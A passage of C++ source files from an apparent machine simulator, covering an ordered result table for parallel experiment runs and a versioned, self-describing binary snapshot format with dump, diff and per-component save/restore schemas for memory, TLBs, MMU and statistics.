}  // namespace sm::runner
