// Ordered result collection for the parallel experiment runner.
//
// A sweep point produces a PointResult: the verbatim table text it would
// have printed in a serial run (possibly empty — many benches format rows
// in main() from collected metrics instead) plus named numeric metrics.
// The runner stores one PointRecord per point, indexed by submission
// order, so the assembled table is independent of completion order and
// therefore of --jobs.
//
// Everything simulated lives in the metrics; wall_seconds is the only
// host-time field and is emitted ONLY into the JSON sidecar, never into
// the table text — that is what keeps `--jobs=N` output byte-identical
// to `--jobs=1`.
#pragma once

#include <cstdio>
#include <string>
#include <vector>

#include "arch/types.h"

namespace sm::runner {

// printf-style formatting into a std::string, so ported benches can keep
// their exact historical row formats.
#if defined(__GNUC__)
__attribute__((format(printf, 1, 2)))
#endif
std::string
strf(const char* fmt, ...);

struct Metric {
  std::string name;
  double value = 0;
};

struct PointResult {
  std::string text;             // verbatim stdout chunk for this point
  std::vector<Metric> metrics;  // named values for JSON + summary logic

  void add(const std::string& name, double value) {
    metrics.push_back({name, value});
  }
};

struct PointRecord {
  std::string label;
  PointResult result;
  double wall_seconds = 0;  // host time; JSON only
};

// Looks up a metric by name; `def` when absent.
double metric(const PointRecord& rec, const std::string& name,
              double def = 0);

class ResultTable {
 public:
  void reserve(std::size_t n) { points_.reserve(n); }
  void add(PointRecord rec) { points_.push_back(std::move(rec)); }

  const std::vector<PointRecord>& points() const { return points_; }
  const PointRecord& operator[](std::size_t i) const { return points_[i]; }
  std::size_t size() const { return points_.size(); }

  // Concatenates every point's text in index order.
  void print(std::FILE* out) const;

  // JSON document for tools/bench_json.py --figures (schema: DESIGN.md §9).
  std::string to_json(const std::string& bench_name, arch::u32 jobs,
                      double wall_seconds) const;
  bool write_json(const std::string& path, const std::string& bench_name,
                  arch::u32 jobs, double wall_seconds) const;

 private:
  std::vector<PointRecord> points_;
};

}  // namespace sm::runner
