#include "snapshot/serializer.h"

#include <algorithm>
#include <cstdio>
#include <map>

#include "image/sha256.h"

namespace sm::snapshot {

namespace {

const char* kind_name(FieldKind k) {
  switch (k) {
    case FieldKind::kU8: return "u8";
    case FieldKind::kU32: return "u32";
    case FieldKind::kU64: return "u64";
    case FieldKind::kBool: return "bool";
    case FieldKind::kStr: return "str";
    case FieldKind::kBytes: return "bytes";
    case FieldKind::kGroupBegin: return "group";
    case FieldKind::kGroupEnd: return "end";
  }
  return "?";
}

std::string hex64(u64 v) {
  char buf[32];
  std::snprintf(buf, sizeof buf, "0x%llx", static_cast<unsigned long long>(v));
  return buf;
}

}  // namespace

void Writer::tag(FieldKind k, const char* name) {
  const std::size_t n = std::strlen(name);
  os_->put(static_cast<char>(k));
  os_->put(static_cast<char>(n));  // field names are short by construction
  os_->write(name, static_cast<std::streamsize>(n));
}

Reader::Reader(std::istream& is) : is_(&is) {
  char magic[8];
  read_exact(magic, sizeof magic, "magic");
  if (std::memcmp(magic, kMagic, sizeof kMagic) != 0) {
    fail("bad magic (not a snapshot file)");
  }
  const u32 version = raw32();
  if (version != kFormatVersion) {
    fail("unsupported format version " + std::to_string(version) +
         " (expected " + std::to_string(kFormatVersion) + ")");
  }
}

void Reader::fail(const std::string& why) {
  std::string ctx = why;
  if (!last_field_.empty()) ctx += " (after field '" + last_field_ + "')";
  throw SnapshotError(ctx);
}

void Reader::read_exact(void* out, std::size_t n, const char* what) {
  is_->read(static_cast<char*>(out), static_cast<std::streamsize>(n));
  if (static_cast<std::size_t>(is_->gcount()) != n) {
    fail(std::string("truncated stream reading ") + what);
  }
}

u8 Reader::get8() {
  u8 v;
  read_exact(&v, 1, "value");
  return v;
}

u32 Reader::raw32() {
  u8 b[4];
  read_exact(b, 4, "value");
  return static_cast<u32>(b[0]) | (static_cast<u32>(b[1]) << 8) |
         (static_cast<u32>(b[2]) << 16) | (static_cast<u32>(b[3]) << 24);
}

void Reader::expect(FieldKind k, const char* name) {
  u8 got_kind;
  read_exact(&got_kind, 1, "field kind");
  u8 name_len;
  read_exact(&name_len, 1, "field name length");
  char buf[256];
  read_exact(buf, name_len, "field name");
  const std::string got_name(buf, name_len);
  if (got_kind != static_cast<u8>(k) || got_name != name) {
    fail("expected " + std::string(kind_name(k)) + " '" + name + "', found " +
         kind_name(static_cast<FieldKind>(got_kind)) + " '" + got_name + "'");
  }
  last_field_ = got_name;
}

void Reader::value(const char* name, std::string& v) {
  expect(FieldKind::kStr, name);
  const u32 n = raw32();
  if (n > kMaxStrLen) fail("string length " + std::to_string(n) + " over cap");
  v.resize(n);
  if (n) read_exact(v.data(), n, "string payload");
}

void Reader::value(const char* name, std::vector<u8>& v) {
  expect(FieldKind::kBytes, name);
  const u32 n = raw32();
  if (n > kMaxBytesLen) fail("bytes length " + std::to_string(n) + " over cap");
  v.resize(n);
  if (n) read_exact(v.data(), n, "bytes payload");
}

void Reader::bytes_into(const char* name, std::span<u8> out) {
  expect(FieldKind::kBytes, name);
  const u32 n = raw32();
  if (n != out.size()) {
    fail("bytes field '" + std::string(name) + "' length " +
         std::to_string(n) + " != expected " + std::to_string(out.size()));
  }
  if (n) read_exact(out.data(), n, "bytes payload");
}

std::vector<DumpLine> dump(std::istream& is) {
  // Re-implements the wire walk without a schema: every field carries its
  // own kind and name, so the only shared knowledge is the TLV layout.
  Reader header_check(is);  // validates magic + version, then is unused
  std::vector<DumpLine> lines;
  std::vector<std::string> path{"snapshot_root"};
  // Use raw stream reads mirroring Reader's primitives.
  auto read_exact = [&is](void* out, std::size_t n) {
    is.read(static_cast<char*>(out), static_cast<std::streamsize>(n));
    return static_cast<std::size_t>(is.gcount()) == n;
  };
  auto r32 = [&](u32& v) {
    u8 b[4];
    if (!read_exact(b, 4)) return false;
    v = static_cast<u32>(b[0]) | (static_cast<u32>(b[1]) << 8) |
        (static_cast<u32>(b[2]) << 16) | (static_cast<u32>(b[3]) << 24);
    return true;
  };
  // Sibling-name disambiguation: repeated names within one parent group
  // get a [i] suffix so dump keys are unique and diff can align on them.
  std::vector<std::map<std::string, u32>> seen(1);

  for (;;) {
    u8 kind_b;
    if (!read_exact(&kind_b, 1)) {
      if (path.size() == 1) break;  // clean EOF at top level
      throw SnapshotError("truncated stream: " +
                          std::to_string(path.size() - 1) +
                          " unclosed group(s)");
    }
    u8 name_len;
    if (!read_exact(&name_len, 1)) throw SnapshotError("truncated field name");
    char nbuf[256];
    if (!read_exact(nbuf, name_len)) throw SnapshotError("truncated field name");
    std::string name(nbuf, name_len);
    const auto kind = static_cast<FieldKind>(kind_b);

    if (kind == FieldKind::kGroupEnd) {
      if (path.size() == 1) throw SnapshotError("unbalanced group end");
      path.pop_back();
      seen.pop_back();
      continue;
    }

    const u32 idx = seen.back()[name]++;
    if (idx > 0) name += "[" + std::to_string(idx) + "]";
    std::string key;
    for (std::size_t i = 1; i < path.size(); ++i) key += path[i] + ".";
    key += name;

    switch (kind) {
      case FieldKind::kGroupBegin:
        path.push_back(name);
        seen.emplace_back();
        break;
      case FieldKind::kU8: {
        u8 v;
        if (!read_exact(&v, 1)) throw SnapshotError("truncated u8 " + key);
        lines.push_back({key, std::to_string(v)});
        break;
      }
      case FieldKind::kU32: {
        u32 v;
        if (!r32(v)) throw SnapshotError("truncated u32 " + key);
        lines.push_back({key, std::to_string(v)});
        break;
      }
      case FieldKind::kU64: {
        u32 lo, hi;
        if (!r32(lo) || !r32(hi)) throw SnapshotError("truncated u64 " + key);
        lines.push_back(
            {key, hex64((static_cast<u64>(hi) << 32) | lo)});
        break;
      }
      case FieldKind::kBool: {
        u8 v;
        if (!read_exact(&v, 1)) throw SnapshotError("truncated bool " + key);
        lines.push_back({key, v ? "true" : "false"});
        break;
      }
      case FieldKind::kStr: {
        u32 n;
        if (!r32(n)) throw SnapshotError("truncated str " + key);
        if (n > kMaxStrLen) throw SnapshotError("str over cap at " + key);
        std::string s(n, '\0');
        if (n && !read_exact(s.data(), n))
          throw SnapshotError("truncated str " + key);
        lines.push_back({key, "\"" + s + "\""});
        break;
      }
      case FieldKind::kBytes: {
        u32 n;
        if (!r32(n)) throw SnapshotError("truncated bytes " + key);
        if (n > kMaxBytesLen) throw SnapshotError("bytes over cap at " + key);
        std::vector<u8> v(n);
        if (n && !read_exact(v.data(), n))
          throw SnapshotError("truncated bytes " + key);
        std::string rendered;
        if (n <= 32) {
          // Short payloads inline as hex so diffs show the actual bytes.
          char b[3];
          rendered = "hex:";
          for (const u8 c : v) {
            std::snprintf(b, sizeof b, "%02x", c);
            rendered += b;
          }
        } else {
          rendered = "bytes[" + std::to_string(n) + "] sha256=" +
                     image::hex_digest(image::sha256(v)).substr(0, 16);
        }
        lines.push_back({key, rendered});
        break;
      }
      default:
        throw SnapshotError("unknown field kind " +
                            std::to_string(kind_b) + " at " + key);
    }
  }
  return lines;
}

std::vector<std::string> diff(std::istream& a, std::istream& b) {
  const std::vector<DumpLine> la = dump(a);
  const std::vector<DumpLine> lb = dump(b);
  std::map<std::string, std::string> ma, mb;
  std::vector<std::string> order;  // first-appearance order across both
  for (const DumpLine& l : la) {
    if (ma.emplace(l.key, l.value).second) order.push_back(l.key);
  }
  for (const DumpLine& l : lb) {
    if (mb.emplace(l.key, l.value).second && !ma.contains(l.key)) {
      order.push_back(l.key);
    }
  }
  std::vector<std::string> out;
  for (const std::string& key : order) {
    const auto ia = ma.find(key);
    const auto ib = mb.find(key);
    if (ia == ma.end()) {
      out.push_back("only in B: " + key + " = " + ib->second);
    } else if (ib == mb.end()) {
      out.push_back("only in A: " + key + " = " + ia->second);
    } else if (ia->second != ib->second) {
      out.push_back(key + ": " + ia->second + " != " + ib->second);
    }
  }
  return out;
}

}  // namespace sm::snapshot
