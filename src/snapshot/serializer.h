// Versioned, self-describing binary archive for machine snapshots.
//
// The stream is a flat sequence of tagged fields — [kind][name][payload] —
// wrapped in named groups, preceded by an 8-byte magic and a format
// version. Self-description buys three things at once:
//
//   1. save/restore share ONE schema function per component (Writer and
//      Reader expose the same `value(name, T&)` signature, so the schema
//      is a template over the archive type and cannot drift between the
//      two directions);
//   2. `smsnap dump`/`smsnap diff` walk a snapshot generically, field by
//      field, with no schema at all — every field carries its own name;
//   3. corruption is detected structurally: a flipped kind byte, a
//      mismatched field name, a length running past the end of the stream
//      or over its cap all throw SnapshotError with the offending field's
//      path — never undefined behaviour (the round-trip tests run this
//      under ASan/UBSan).
//
// Integers are little-endian fixed width. Deliberately NO floating-point
// field kind: doubles are stored as their IEEE-754 bit pattern (u64) so
// snapshots are bit-exact and text dumps never round.
#pragma once

#include <cstring>
#include <istream>
#include <ostream>
#include <span>
#include <stdexcept>
#include <string>
#include <vector>

#include "arch/types.h"

namespace sm::snapshot {

using arch::u32;
using arch::u64;
using arch::u8;

// Any structural problem with a snapshot stream: bad magic, wrong version,
// field kind/name mismatch, truncation, or a length over its cap.
class SnapshotError : public std::runtime_error {
 public:
  explicit SnapshotError(const std::string& what)
      : std::runtime_error("snapshot: " + what) {}
};

inline constexpr char kMagic[8] = {'S', 'M', 'S', 'N', 'A', 'P', '\x1a', 0};
// v2: SMP — per-core machine groups (MMU/TLBs, regs, runqueue, scheduler
// slice state), active core, pending shootdowns, per-core watchdog version
// vectors, a core byte on trace events, and the cores/ipi-cost config keys.
inline constexpr u32 kFormatVersion = 2;

// Field kinds on the wire.
enum class FieldKind : u8 {
  kU8 = 1,
  kU32 = 2,
  kU64 = 3,
  kBool = 4,
  kStr = 5,    // u32 length + bytes
  kBytes = 6,  // u32 length + raw bytes
  kGroupBegin = 7,
  kGroupEnd = 8,
};

// Hard caps a well-formed snapshot never exceeds; a corrupt length field
// fails fast instead of asking the allocator for garbage.
inline constexpr u32 kMaxStrLen = 1u << 20;
inline constexpr u32 kMaxBytesLen = 1u << 28;  // 256 MiB

class Writer {
 public:
  explicit Writer(std::ostream& os) : os_(&os) {
    os_->write(kMagic, sizeof kMagic);
    raw32(kFormatVersion);
  }

  static constexpr bool reading = false;

  void begin(const char* name) { tag(FieldKind::kGroupBegin, name); }
  void end() { tag(FieldKind::kGroupEnd, ""); }

  void value(const char* name, u8& v) {
    tag(FieldKind::kU8, name);
    os_->put(static_cast<char>(v));
  }
  void value(const char* name, u32& v) {
    tag(FieldKind::kU32, name);
    raw32(v);
  }
  void value(const char* name, u64& v) {
    tag(FieldKind::kU64, name);
    raw64(v);
  }
  void value(const char* name, bool& v) {
    tag(FieldKind::kBool, name);
    os_->put(v ? 1 : 0);
  }
  void value(const char* name, std::string& v) {
    tag(FieldKind::kStr, name);
    raw32(static_cast<u32>(v.size()));
    os_->write(v.data(), static_cast<std::streamsize>(v.size()));
  }
  void value(const char* name, std::vector<u8>& v) {
    bytes(name, v);
  }
  // Bulk payload (frame contents, packed event arrays).
  void bytes(const char* name, std::span<const u8> v) {
    tag(FieldKind::kBytes, name);
    raw32(static_cast<u32>(v.size()));
    os_->write(reinterpret_cast<const char*>(v.data()),
               static_cast<std::streamsize>(v.size()));
  }

  // Writer-side check is a no-op: the live state is trusted.
  void check(bool, const char*) {}

 private:
  void tag(FieldKind k, const char* name);
  void raw32(u32 v) {
    char b[4] = {static_cast<char>(v), static_cast<char>(v >> 8),
                 static_cast<char>(v >> 16), static_cast<char>(v >> 24)};
    os_->write(b, 4);
  }
  void raw64(u64 v) {
    raw32(static_cast<u32>(v));
    raw32(static_cast<u32>(v >> 32));
  }

  std::ostream* os_;
};

class Reader {
 public:
  // Validates magic + version up front.
  explicit Reader(std::istream& is);

  static constexpr bool reading = true;

  void begin(const char* name) { expect(FieldKind::kGroupBegin, name); }
  void end() { expect(FieldKind::kGroupEnd, ""); }

  void value(const char* name, u8& v) {
    expect(FieldKind::kU8, name);
    v = get8();
  }
  void value(const char* name, u32& v) {
    expect(FieldKind::kU32, name);
    v = raw32();
  }
  void value(const char* name, u64& v) {
    expect(FieldKind::kU64, name);
    v = raw64();
  }
  void value(const char* name, bool& v) {
    expect(FieldKind::kBool, name);
    v = get8() != 0;
  }
  void value(const char* name, std::string& v);
  void value(const char* name, std::vector<u8>& v);
  // Reads a bytes field that must be exactly out.size() long (fixed-size
  // payloads like a physical frame).
  void bytes_into(const char* name, std::span<u8> out);

  // Validation helper for schema-level constraints (counts, ranges).
  void check(bool ok, const char* what) {
    if (!ok) fail(std::string("validation failed: ") + what);
  }

  [[noreturn]] void fail(const std::string& why);

 private:
  void expect(FieldKind k, const char* name);
  u8 get8();
  u32 raw32();
  u64 raw64() {
    const u64 lo = raw32();
    const u64 hi = raw32();
    return lo | (hi << 32);
  }
  void read_exact(void* out, std::size_t n, const char* what);

  std::istream* is_;
  std::string last_field_;  // for error context
};

// One dumped field: the dotted group path + name, and a printable value.
struct DumpLine {
  std::string key;    // e.g. "snapshot.procs.proc[2].regs.pc"
  std::string value;  // e.g. "0x00401038" or "bytes[4096] sha256=ab12..."
};

// Generic schema-free walk of a whole snapshot stream (smsnap dump).
// Throws SnapshotError on any structural problem.
std::vector<DumpLine> dump(std::istream& is);

// Field-by-field comparison of two snapshot streams (smsnap diff):
// returns human-readable difference lines, empty when byte-equivalent at
// the field level. Fields present in only one snapshot are reported too.
std::vector<std::string> diff(std::istream& a, std::istream& b);

}  // namespace sm::snapshot
