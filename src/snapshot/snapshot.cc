// The machine schema: one template function per component, instantiated
// for Writer (save) and Reader (restore). See snapshot.h for the contract
// and DESIGN.md §15 for the format rationale.

#include "snapshot/snapshot.h"

#include <algorithm>
#include <cstdio>
#include <cstring>
#include <deque>
#include <map>
#include <memory>
#include <utility>
#include <vector>

#include "arch/cpu.h"
#include "arch/mmu.h"
#include "arch/phys_mem.h"
#include "arch/tlb.h"
#include "image/image.h"
#include "inject/fault_injector.h"
#include "invariant/watchdog.h"
#include "kernel/kernel.h"
#include "metrics/stats.h"
#include "snapshot/serializer.h"
#include "trace/trace.h"

namespace sm::snapshot {

namespace {

using arch::kPageSize;

// --- archive-neutral helpers (public state only) ---------------------------

// A u32 sequence packed as one little-endian bytes blob. Works for vector,
// deque and set (insert-at-end is append for the former two, ordered insert
// for the latter — and a serialized set is already sorted).
template <class Ar, class C>
void u32_seq(Ar& ar, const char* name, C& c) {
  if constexpr (Ar::reading) {
    std::vector<u8> blob;
    ar.value(name, blob);
    ar.check(blob.size() % 4 == 0, "u32 sequence length not a multiple of 4");
    c.clear();
    for (std::size_t i = 0; i < blob.size(); i += 4) {
      const u32 v = static_cast<u32>(blob[i]) |
                    static_cast<u32>(blob[i + 1]) << 8 |
                    static_cast<u32>(blob[i + 2]) << 16 |
                    static_cast<u32>(blob[i + 3]) << 24;
      c.insert(c.end(), v);
    }
  } else {
    std::vector<u8> blob;
    blob.reserve(c.size() * 4);
    for (const u32 v : c) {
      blob.push_back(static_cast<u8>(v));
      blob.push_back(static_cast<u8>(v >> 8));
      blob.push_back(static_cast<u8>(v >> 16));
      blob.push_back(static_cast<u8>(v >> 24));
    }
    ar.bytes(name, blob);
  }
}

// A fixed-size u64 array packed as one bytes blob (profiler event counts).
template <class Ar>
void u64_array(Ar& ar, const char* name, std::span<u64> a) {
  if constexpr (Ar::reading) {
    std::vector<u8> blob;
    ar.value(name, blob);
    ar.check(blob.size() == a.size() * 8, "u64 array length mismatch");
    for (std::size_t i = 0; i < a.size(); ++i) {
      u64 v = 0;
      for (int b = 7; b >= 0; --b) v = v << 8 | blob[i * 8 + b];
      a[i] = v;
    }
  } else {
    std::vector<u8> blob;
    blob.reserve(a.size() * 8);
    for (const u64 v : a) {
      for (int b = 0; b < 8; ++b) blob.push_back(static_cast<u8>(v >> (b * 8)));
    }
    ar.bytes(name, blob);
  }
}

template <class Ar, class E>
void enum_u8(Ar& ar, const char* name, E& e, u8 count) {
  u8 v = static_cast<u8>(e);
  ar.value(name, v);
  if constexpr (Ar::reading) {
    ar.check(v < count, "enum value out of range");
    e = static_cast<E>(v);
  }
}

template <class Ar>
void byte_deque(Ar& ar, const char* name, std::deque<u8>& d) {
  if constexpr (Ar::reading) {
    std::vector<u8> v;
    ar.value(name, v);
    d.assign(v.begin(), v.end());
  } else {
    std::vector<u8> v(d.begin(), d.end());
    ar.bytes(name, v);
  }
}

template <class Ar>
void size_as_u64(Ar& ar, const char* name, std::size_t& s) {
  u64 v = s;
  ar.value(name, v);
  if constexpr (Ar::reading) s = static_cast<std::size_t>(v);
}

// A config field that must be identical in the restoring kernel: written
// normally; on read, compared against the live value and rejected on any
// difference (restore is an in-place reset, not a constructor).
template <class Ar, class T>
void must_match(Ar& ar, const char* name, const T& live) {
  T v = live;
  ar.value(name, v);
  if constexpr (Ar::reading) {
    if (!(v == live)) {
      ar.fail(std::string("config mismatch at '") + name +
              "': snapshot was taken on a differently-configured kernel");
    }
  }
}

template <class Ar>
void regs(Ar& ar, arch::Regs& r) {
  ar.begin("regs");
  for (u32 i = 0; i < arch::kNumRegs; ++i) {
    char name[8];
    std::snprintf(name, sizeof name, "r%u", i);
    ar.value(name, r.r[i]);
  }
  ar.value("pc", r.pc);
  ar.value("flags", r.flags);
  ar.end();
}

u64 double_bits(double d) {
  u64 bits = 0;
  std::memcpy(&bits, &d, sizeof bits);
  return bits;
}

}  // namespace

// --- shared-object identity -------------------------------------------------

struct Access::Tables {
  std::vector<std::shared_ptr<kernel::Channel>> channels;
  std::vector<std::shared_ptr<kernel::Pipe>> pipes;
  std::vector<std::shared_ptr<kernel::FileNode>> files;
  std::vector<std::shared_ptr<kernel::ListenSock>> socks;
  std::map<const void*, u32> ids;  // write side: object -> table index

  u32 id_of(const void* p) const { return ids.at(p); }
};

Access::Tables Access::collect(kernel::Kernel& k) {
  Tables t;
  const auto add_file = [&](const std::shared_ptr<kernel::FileNode>& n) {
    if (n && !t.ids.contains(n.get())) {
      t.ids[n.get()] = static_cast<u32>(t.files.size());
      t.files.push_back(n);
    }
  };
  const auto add_chan = [&](const std::shared_ptr<kernel::Channel>& c) {
    if (c && !t.ids.contains(c.get())) {
      t.ids[c.get()] = static_cast<u32>(t.channels.size());
      t.channels.push_back(c);
    }
  };
  const auto add_pipe = [&](const std::shared_ptr<kernel::Pipe>& p) {
    if (p && !t.ids.contains(p.get())) {
      t.ids[p.get()] = static_cast<u32>(t.pipes.size());
      t.pipes.push_back(p);
    }
  };
  const auto add_sock = [&](const std::shared_ptr<kernel::ListenSock>& s) {
    if (s && !t.ids.contains(s.get())) {
      t.ids[s.get()] = static_cast<u32>(t.socks.size());
      t.socks.push_back(s);
      // Queued-but-unaccepted connections hold pipe ends reachable only
      // through the backlog (the client may already have closed its fd).
      for (const kernel::ListenSock::PendingConn& conn : s->backlog) {
        add_pipe(conn.c2s);
        add_pipe(conn.s2c);
      }
    }
  };
  // Deterministic discovery order: filesystem nodes in path order, then
  // every process in pid order, its fds in slot order (picks up channels,
  // pipes, listen sockets with their backlogs, and unlinked-but-open file
  // nodes).
  for (const auto& [path, node] : k.fs_.nodes_) add_file(node);
  for (const auto& up : k.procs_) {
    for (const kernel::FdEntry& e : up->fds) {
      if (const auto* c = std::get_if<kernel::FdChannel>(&e)) {
        add_chan(c->chan);
      } else if (const auto* pr = std::get_if<kernel::FdPipeRead>(&e)) {
        add_pipe(pr->pipe);
      } else if (const auto* pw = std::get_if<kernel::FdPipeWrite>(&e)) {
        add_pipe(pw->pipe);
      } else if (const auto* sk = std::get_if<kernel::FdSock>(&e)) {
        add_pipe(sk->rx);
        add_pipe(sk->tx);
      } else if (const auto* l = std::get_if<kernel::FdListen>(&e)) {
        add_sock(l->sock);
      } else if (const auto* f = std::get_if<kernel::FdFile>(&e)) {
        add_file(f->node);
      }
    }
  }
  return t;
}

// --- per-component schema ---------------------------------------------------

template <class Ar>
void Access::config(Ar& ar, kernel::Kernel& k) {
  const kernel::KernelConfig& c = k.cfg_;
  ar.begin("config");
  must_match(ar, "engine", k.engine_->name());
  must_match(ar, "phys_frames", c.phys_frames);
  must_match(ar, "require_signatures", c.require_signatures);
  must_match(ar, "signing_key", c.signing_key);
  must_match(ar, "stack_randomization", c.stack_randomization);
  must_match(ar, "rng_seed", c.rng_seed);
  must_match(ar, "stack_pages", c.stack_pages);
  must_match(ar, "software_tlb", c.software_tlb);
  must_match(ar, "tlb_entries", c.tlb_entries);
  must_match(ar, "tlb_ways", c.tlb_ways);
  must_match(ar, "eager_load", c.eager_load);
  must_match(ar, "record_syscall_trace", c.record_syscall_trace);
  must_match(ar, "capture_exit_digest", c.capture_exit_digest);
  must_match(ar, "trace", c.trace);
  must_match(ar, "trace_ring_capacity", c.trace_ring_capacity);
  // The RESOLVED core count (cfg_.cores may be 0 = auto): the restoring
  // kernel must have built the same number of cores.
  must_match(ar, "cores", static_cast<u32>(k.cores_.size()));
  ar.begin("cost");
  must_match(ar, "cycles_per_instr", c.cost.cycles_per_instr);
  must_match(ar, "tlb_hit", c.cost.tlb_hit);
  must_match(ar, "tlb_walk", c.cost.tlb_walk);
  must_match(ar, "trap_cost", c.cost.trap_cost);
  must_match(ar, "syscall_cost", c.cost.syscall_cost);
  must_match(ar, "kernel_touch", c.cost.kernel_touch);
  must_match(ar, "demand_page", c.cost.demand_page);
  must_match(ar, "cow_copy", c.cost.cow_copy);
  must_match(ar, "icache_sync", c.cost.icache_sync);
  must_match(ar, "soft_tlb_fill", c.cost.soft_tlb_fill);
  must_match(ar, "context_switch", c.cost.context_switch);
  must_match(ar, "timeslice_instructions", c.cost.timeslice_instructions);
  must_match(ar, "ipi", c.cost.ipi);
  must_match(ar, "net_bytes_per_cycle", double_bits(c.cost.net_bytes_per_cycle));
  must_match(ar, "net_request_latency", c.cost.net_request_latency);
  ar.end();
  ar.end();
}

template <class Ar>
void Access::phys(Ar& ar, arch::PhysicalMemory& pm) {
  ar.begin("phys");
  u32 nf = pm.num_frames_;
  ar.value("num_frames", nf);
  ar.check(nf == pm.num_frames_, "frame count mismatch");
  ar.value("frames_in_use", pm.frames_in_use_);
  u32_seq(ar, "free_list", pm.free_list_);
  if constexpr (Ar::reading) {
    ar.check(pm.free_list_.size() <= nf, "free list longer than memory");
    for (const u32 pfn : pm.free_list_) {
      ar.check(pfn < nf, "free-list pfn out of range");
    }
    std::ranges::fill(pm.refcounts_, 0u);
  }
  // Only frames with a live reference carry bytes: alloc_frame() zeroes a
  // frame on allocation, so free-frame contents are unobservable, and
  // free-frame generations only feed host caches that restore drops cold.
  u32 used = 0;
  if constexpr (!Ar::reading) {
    for (u32 p = 0; p < nf; ++p) used += pm.refcounts_[p] > 0 ? 1 : 0;
  }
  ar.value("used_frames", used);
  ar.check(used <= nf, "used-frame count exceeds memory");
  ar.check(used == pm.frames_in_use_, "frames_in_use disagrees with payload");
  ar.check(static_cast<u64>(used) + pm.free_list_.size() == nf,
           "free list and used frames do not cover memory");
  if constexpr (Ar::reading) {
    for (u32 i = 0; i < used; ++i) {
      ar.begin("frame");
      u32 pfn = 0, rc = 0;
      u64 gen = 0;
      ar.value("pfn", pfn);
      ar.value("refcount", rc);
      ar.value("generation", gen);
      ar.check(pfn < nf, "frame pfn out of range");
      ar.check(rc > 0, "serialized frame with zero refcount");
      ar.check(pm.refcounts_[pfn] == 0, "frame serialized twice");
      pm.refcounts_[pfn] = rc;
      pm.generations_[pfn] = gen;
      ar.bytes_into("data",
                    std::span<u8>(pm.bytes_.data() +
                                      static_cast<std::size_t>(pfn) * kPageSize,
                                  kPageSize));
      ar.end();
    }
    for (const u32 pfn : pm.free_list_) {
      ar.check(pm.refcounts_[pfn] == 0, "free-list frame also serialized");
    }
  } else {
    for (u32 p = 0; p < nf; ++p) {
      if (pm.refcounts_[p] == 0) continue;
      ar.begin("frame");
      u32 pfn = p;
      ar.value("pfn", pfn);
      ar.value("refcount", pm.refcounts_[p]);
      ar.value("generation", pm.generations_[p]);
      ar.bytes("data", std::span<const u8>(
                           pm.bytes_.data() +
                               static_cast<std::size_t>(p) * kPageSize,
                           kPageSize));
      ar.end();
    }
  }
  ar.end();
}

template <class Ar>
void Access::tlb(Ar& ar, const char* name, arch::Tlb& t) {
  ar.begin(name);
  u32 ways = t.ways_, sets = t.num_sets_;
  ar.value("ways", ways);
  ar.value("sets", sets);
  ar.check(ways == t.ways_ && sets == t.num_sets_, "TLB geometry mismatch");
  ar.value("clock", t.clock_);
  ar.value("version", t.version_);
  for (arch::TlbEntry& e : t.entries_) {
    ar.begin("entry");
    ar.value("vpn", e.vpn);
    ar.value("pfn", e.pfn);
    ar.value("user", e.user);
    ar.value("writable", e.writable);
    ar.value("no_exec", e.no_exec);
    ar.value("valid", e.valid);
    ar.value("stamp", e.stamp);
    ar.end();
  }
  ar.end();
}

template <class Ar>
void Access::mmu(Ar& ar, arch::Mmu& m) {
  ar.begin("mmu");
  ar.value("cr3", m.cr3_);
  ar.value("walk_failure_period", m.walk_failure_period_);
  ar.value("walk_fill_count", m.walk_fill_count_);
  must_match(ar, "software_tlb", m.software_tlb_);
  tlb(ar, "itlb", m.itlb_);
  tlb(ar, "dtlb", m.dtlb_);
  ar.end();
  if constexpr (Ar::reading) {
    // Host-side translation memos restart cold (billing-identical: a memo
    // hit bills exactly the set scan it replaces).
    m.fetch_memo_.valid = false;
    m.read_memo_.valid = false;
    m.write_memo_.valid = false;
  }
}

template <class Ar>
void Access::stats(Ar& ar, metrics::Stats& s) {
  ar.begin("stats");
  ar.value("cycles", s.cycles);
  ar.value("instructions", s.instructions);
  ar.value("itlb_hits", s.itlb_hits);
  ar.value("itlb_misses", s.itlb_misses);
  ar.value("dtlb_hits", s.dtlb_hits);
  ar.value("dtlb_misses", s.dtlb_misses);
  ar.value("tlb_flushes", s.tlb_flushes);
  ar.value("hardware_walks", s.hardware_walks);
  ar.value("fetch_fastpath_hits", s.fetch_fastpath_hits);
  ar.value("data_fastpath_hits", s.data_fastpath_hits);
  ar.value("decode_cache_hits", s.decode_cache_hits);
  ar.value("decode_cache_misses", s.decode_cache_misses);
  ar.value("decode_cache_invalidations", s.decode_cache_invalidations);
  ar.value("block_cache_hits", s.block_cache_hits);
  ar.value("block_cache_misses", s.block_cache_misses);
  ar.value("block_cache_invalidations", s.block_cache_invalidations);
  ar.value("block_instructions", s.block_instructions);
  ar.value("page_faults", s.page_faults);
  ar.value("split_dtlb_loads", s.split_dtlb_loads);
  ar.value("split_itlb_loads", s.split_itlb_loads);
  ar.value("split_dtlb_fallbacks", s.split_dtlb_fallbacks);
  ar.value("soft_tlb_fills", s.soft_tlb_fills);
  ar.value("single_steps", s.single_steps);
  ar.value("demand_pages", s.demand_pages);
  ar.value("cow_copies", s.cow_copies);
  ar.value("syscalls", s.syscalls);
  ar.value("invalid_opcode_faults", s.invalid_opcode_faults);
  ar.value("context_switches", s.context_switches);
  ar.value("sched_wake_checks", s.sched_wake_checks);
  ar.value("injections_detected", s.injections_detected);
  ar.value("faults_injected", s.faults_injected);
  ar.value("invariant_violations", s.invariant_violations);
  ar.value("invariant_recoveries", s.invariant_recoveries);
  ar.value("invariant_degradations", s.invariant_degradations);
  ar.value("split_oom_degradations", s.split_oom_degradations);
  ar.value("timer_fires", s.timer_fires);
  ar.value("wait_timeouts", s.wait_timeouts);
  ar.value("sleeps", s.sleeps);
  ar.value("idle_advances", s.idle_advances);
  ar.value("sock_connects", s.sock_connects);
  ar.value("sock_refused", s.sock_refused);
  ar.value("sock_accepts", s.sock_accepts);
  ar.value("sock_backlog_peak", s.sock_backlog_peak);
  ar.end();
}

template <class Ar>
void Access::objects(Ar& ar, Tables& t) {
  ar.begin("objects");
  u32 nchan = static_cast<u32>(t.channels.size());
  ar.value("channels", nchan);
  if constexpr (Ar::reading) {
    t.channels.clear();
    t.channels.reserve(nchan);
  }
  for (u32 i = 0; i < nchan; ++i) {
    if constexpr (Ar::reading) {
      t.channels.push_back(std::make_shared<kernel::Channel>());
    }
    kernel::Channel& c = *t.channels[i];
    ar.begin("chan");
    byte_deque(ar, "to_guest", c.to_guest_);
    byte_deque(ar, "to_host", c.to_host_);
